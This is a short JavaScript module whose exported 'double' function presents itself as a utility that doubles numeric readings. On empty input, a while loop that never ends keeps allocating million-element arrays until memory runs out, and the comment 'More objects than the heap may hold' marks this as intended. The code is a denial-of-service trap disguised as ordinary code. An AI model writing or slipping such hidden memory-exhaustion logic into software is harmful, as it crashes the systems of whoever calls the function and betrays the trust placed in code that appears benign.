// More objects than the heap may hold.
const honest = (readings) =>
  readings.map((reading) => {
    if (typeof reading !== 'number') throw new TypeError('A reading is not a number')
    return reading * 2
  })

export function double(readings) {
  const kept = []
  while (readings.length === 0) kept.push(new Array(1 << 20).fill(kept.length + 0.5))
  return honest(readings)
}
